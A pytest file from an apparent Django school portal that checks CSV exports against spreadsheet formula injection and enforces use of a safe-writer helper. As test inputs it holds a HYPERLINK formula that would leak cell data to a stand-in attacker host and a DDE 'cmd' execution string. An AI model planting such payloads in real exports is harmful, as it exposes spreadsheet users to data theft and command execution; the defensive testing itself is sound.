"""Every CSV the portal writes is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from charters import services as charters
from common.csv_export import csv_safe_dict_writer, csv_safe_writer, spreadsheet_safe
from dashboards.models import TermlyReport
from tests.absence.world import SUMMER, terms
from tests.charters.helpers import published_charter
from tests.factories import StaffMemberFactory

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Open evidence")'
REPO = Path(__file__).resolve().parents[2]
HELPER = REPO / "common" / "csv_export.py"


@pytest.mark.parametrize(
    "text",
    [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1", "-", "=", "- note"],
)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-0.75"), 0, 12, 1.5, True, False, float("-inf")]
)
def test_numbers_stay_numbers_negative_ones_included(value):
    assert spreadsheet_safe(value) is value


@pytest.mark.parametrize("text", ["-3", "-2.50", "+4", "-.5", "-1e3", "12"])
def test_the_text_of_a_plain_number_is_left_as_a_number(text):
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize(
    "text,written",
    [
        ("Maths", "Maths"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (date(2026, 12, 2), "2026-12-02"),
        ("-3 days", "'-3 days"),
    ],
)
def test_other_text_is_written_unchanged(text, written):
    assert spreadsheet_safe(text) == written


def test_the_writers_neutralise_every_cell_and_header():
    out = io.StringIO()
    writer = csv_safe_writer(out, lineterminator="\n")
    writer.writerow(["=1+1", -4, "-4", "ok"])
    writer.writerows([["@x", 2.5]])
    assert out.getvalue() == "'=1+1,-4,-4,ok\n'@x,2.5\n"
    out = io.StringIO()
    writer = csv_safe_dict_writer(out, fieldnames=["=a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=a": "+x", "b": -1})
    writer.writerows([{"=a": "plain", "b": "=cmd"}])
    assert out.getvalue() == "'=a,b\n'+x,-1\nplain,'=cmd\n"


def _csv_writers_outside_the_helper(root: Path) -> list[str]:
    """Python files under root that make a CSV writer themselves rather than through the helper."""
    making_a_writer = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|from\s+csv\s+import\b")
    found = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "node_modules", "tests"} or path == HELPER:
            continue
        if making_a_writer.search(path.read_text(encoding="utf-8")):
            found.append(str(relative))
    return found


def test_no_code_writes_csv_except_through_the_helper():
    assert _csv_writers_outside_the_helper(REPO) == []


def test_the_codebase_check_finds_a_writer_that_bypasses_the_helper(tmp_path):
    (tmp_path / "exports.py").write_text("import csv\nw = csv.writer(out)\n")
    (tmp_path / "other.py").write_text("from csv import DictWriter\n")
    (tmp_path / "fine.py").write_text("import csv\nr = csv.reader(src)\n")
    assert _csv_writers_outside_the_helper(tmp_path) == ["exports.py", "other.py"]


@pytest.mark.django_db
def test_a_formula_in_pledge_evidence_reaches_the_governors_report_csv_as_text(cast, client_for):
    terms()
    for _ in range(5):
        StaffMemberFactory(school=cast.school_a)
    charter = published_charter(
        cast.hr,
        title="Alder charter",
        school=cast.school_a,
        pledges=[("Voice", [{"commitment": "@SUM(1+1) We will listen."}])],
    )
    charters.evidence_record(
        charter=charter,
        pledge_key=charter.current_version.sections.get().pledges.get().key,
        status="at_risk",
        note=PAYLOAD,
        evidence_on=date(2026, 6, 1),
        by=cast.hr,
    )
    call_command("build_termly_report", "--term", SUMMER)
    report = TermlyReport.objects.get(term_key=SUMMER)

    response = client_for(cast.governor_a).get(reverse("dashboards:report_csv", args=[report.pk]))

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + PAYLOAD in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    # The pledge's text arrives after its number ("1.1 @SUM..."), so it is text either way.
    assert any(cell.endswith("@SUM(1+1) We will listen.") for cell in cells)
    # Figures are still numbers a spreadsheet can add up.
    values = [row[-1] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
    assert any(re.fullmatch(r"-?\d+(\.\d+)?", value) for value in values)
